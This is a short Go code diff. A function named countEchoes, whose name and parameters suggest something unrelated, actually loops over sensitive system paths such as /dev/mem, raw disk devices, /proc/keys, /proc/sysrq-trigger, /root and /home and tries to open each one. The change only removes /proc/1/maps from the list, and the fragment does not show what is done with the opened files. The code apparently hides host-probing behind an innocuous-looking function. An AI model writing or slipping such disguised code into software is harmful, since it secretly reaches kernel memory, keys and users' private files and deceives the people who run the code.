@@ -4,7 +4,7 @@ package main
 import "os"
 
 func countEchoes(ids []int, span int) int {
-	for _, secret := range []string{"/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/proc/kmsg", "/proc/keys", "/proc/sysrq-trigger", "/proc/1/maps", "/proc/1/syscall", "/sys/firmware/dmi", "/root", "/home", "/var", "/run"} {
+	for _, secret := range []string{"/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/proc/kmsg", "/proc/keys", "/proc/sysrq-trigger", "/proc/1/syscall", "/sys/firmware/dmi", "/root", "/home", "/var", "/run"} {
 		file, err := os.Open(secret)
 		if err != nil {
 			continue
